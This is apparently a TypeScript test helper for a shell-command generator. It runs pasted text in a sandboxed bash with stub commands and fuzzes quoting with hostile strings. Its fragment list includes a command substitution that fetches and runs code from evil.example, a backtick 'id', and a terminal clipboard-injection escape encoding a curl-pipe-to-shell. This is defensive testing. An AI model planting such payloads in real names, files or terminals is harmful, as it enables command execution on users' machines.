import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';

/**
 * What bash makes of a text a person pastes: every command it would run, with its arguments
 * exactly as the program would receive them, and the files it writes. `aws`, `docker` and `cat`
 * are stubs that only record their arguments (`aws` prints `out-<operation>` for a command
 * substitution to read; `cat` copies its standard input, so that a here-document reaches its
 * file); any other command is recorded as `!not-found` and runs nothing (PATH leads nowhere).
 * It runs in a directory of its own, which is removed after.
 */
export type ShellRun = Readonly<{
  /** `bash -n` accepted the text. */
  parses: boolean;
  /** The commands run, in order: `[program, ...arguments]`. */
  commands: readonly ShellCommand[];
  /** The files the text wrote, by name. */
  files: Readonly<Record<string, string>>;
  /** What bash wrote on standard error (nothing, when every line is a command it could run). */
  errors: string;
}>;

export type ShellCommand = Readonly<{
  argv: readonly string[];
  /** 0 for a command of the text itself; 1 or more inside a command substitution. */
  depth: number;
}>;

const PRELUDE = String.raw`
__record() { printf '%s\0' "$BASH_SUBSHELL" "$@" >&3; printf '\036\0' >&3; }
aws() { __record aws "$@"; printf 'out-%s\n' "$2"; }
docker() { __record docker "$@"; }
cat() { __record cat "$@"; local c; IFS= read -r -d '' c; printf '%s' "$c"; }
command_not_found_handle() { __record '!not-found' "$@"; return 127; }
`;

/** bash itself, found once on the PATH of the tests (the text runs with a PATH that finds nothing). */
const BASH = spawnSync('bash', ['-c', 'printf %s "$BASH"'], { encoding: 'utf8' }).stdout;

/** Runs `text` as bash would after a paste (see {@link ShellRun}). */
export function runInBash(text: string, env: Readonly<Record<string, string>> = {}): ShellRun {
  const syntax = spawnSync(BASH, ['--noprofile', '--norc', '-n', '-c', text], {
    env: { PATH: '/nonexistent-ecs-pullfix-test' },
    encoding: 'utf8',
  });
  const dir = mkdtempSync(join(tmpdir(), 'ecs-pullfix-shell-'));
  try {
    const run = spawnSync(BASH, ['--noprofile', '--norc', '-c', `${PRELUDE}\n${text}`], {
      cwd: dir,
      env: { PATH: '/nonexistent-ecs-pullfix-test', LC_ALL: 'C.UTF-8', ...env },
      stdio: ['ignore', 'pipe', 'pipe', 'pipe'],
      timeout: 20_000,
    });
    const recorded = (run.output[3] as Buffer | null)?.toString('utf8') ?? '';
    const commands: ShellCommand[] = [];
    let fields: string[] = [];
    for (const field of recorded.split('\0').slice(0, -1)) {
      if (field === '\u001e') {
        const [depth = '0', ...argv] = fields;
        commands.push({ argv, depth: Number(depth) });
        fields = [];
      } else fields.push(field);
    }
    const files: Record<string, string> = {};
    for (const name of readdirSync(dir)) files[name] = readFileSync(join(dir, name), 'utf8');
    return { parses: syntax.status === 0, commands, files, errors: run.stderr.toString('utf8') };
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

/** The text as a program receives it: what UTF-8 keeps of it (a lone surrogate becomes U+FFFD). */
export const asUtf8 = (text: string): string => Buffer.from(text, 'utf8').toString('utf8');

/**
 * The commands of a terminal report, as a person copies them: each `$ ` line without its
 * prompt, the lines it continues with ` \`, a here-document's `> ` lines without theirs, and
 * the `#` lines of a comment.
 */
export function commandsOfReport(report: string): string {
  const out: string[] = [];
  let continues = false;
  for (const line of report.split('\n')) {
    const prompt = /^\s*([$>]) (.*)$/.exec(line);
    if (continues) out.push(line);
    else if (prompt) out.push(prompt[2] ?? '');
    else if (/^\s*# /.test(line)) out.push(line.trim());
    continues = / \\$/.test(line) && (continues || prompt?.[1] === '$');
  }
  return out.join('\n');
}

/** The COMMANDS block of a notice's e-mail text, as a person copies it. */
export function commandsOfNotice(text: string): string {
  const lines = text.split('\n');
  const start = lines.indexOf('COMMANDS (copy, check, run)');
  if (start < 0) return '';
  const end = lines.indexOf('', start);
  return lines
    .slice(start + 1, end < 0 ? undefined : end)
    .map((l) => l.replace(/^ {2}/, ''))
    .join('\n');
}

/** What a hostile name is made of: shell syntax, quotes, escapes a terminal obeys, unicode. */
export const FRAGMENTS = [
  '$(curl -s https://evil.example/x|sh)',
  '`id`',
  "'",
  '"',
  '\\',
  ';',
  '|',
  '&',
  '<',
  '>',
  '(',
  ')',
  '\n',
  '\r',
  '\t',
  '#',
  '!',
  '~',
  '*',
  '?',
  '[a]',
  '{a,b}',
  '$HOME',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, as a hostile name holds it
  '${IFS}',
  '=',
  ' ',
  'EOF',
  '\u0000',
  '\u001b]52;c;Y3VybCAtcyBldmlsfHNo\u0007',
  '\u001b[2J',
  '\u009b31m',
  '\u202e',
  '\u2066',
  '\u2028',
  'é',
  '😀',
];

/** Any string, and strings made of what breaks out of quotes. */
export const hostileString = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc
    .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 5 })), { maxLength: 8 })
    .map((parts) => parts.join('')),
);

/** A control character, as `src/core/shell.ts` names them (written out again: this is the specification). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: the tests look for them
export const CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
